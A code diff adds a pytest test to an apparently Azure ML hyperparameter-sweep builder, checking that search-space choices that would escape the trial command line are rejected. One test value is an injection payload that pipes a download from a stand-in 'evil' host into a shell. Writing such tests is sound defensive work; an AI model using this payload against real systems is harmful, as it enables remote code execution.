@@ -349,3 +349,18 @@ def test_a_sweep_azure_ml_cannot_take_is_refused_by_name() -> None:
         R.sweep_job(_tuning(sampler="tpe"), job_name="t", settings=SETTINGS)
     minimize = R.sweep_job(_tuning(metric="eval_loss", pruner="none"), job_name="t", settings=SETTINGS)["sweep"]
     assert minimize["goal"] == "Minimize" and "early_termination" not in minimize
+
+
+def test_a_choice_that_would_break_out_of_the_trials_command_line_is_refused() -> None:
+    from airflow_llmops.specs.tuning import TuningSpec
+
+    for bad in ("it's", "x'; curl https://evil/x | sh; echo '", "two\nlines"):
+        tuning = TuningSpec.parse(
+            {
+                "training": {"dataset_uri": DATA},
+                "search_space": {"precision": {"type": "categorical", "choices": ["fp32", bad]}},
+                "sampler": "random",
+            }
+        )
+        with pytest.raises(AzureMLConfigError, match="cannot pass on a command line"):
+            R.sweep_job(tuning, job_name="t", settings=SETTINGS)
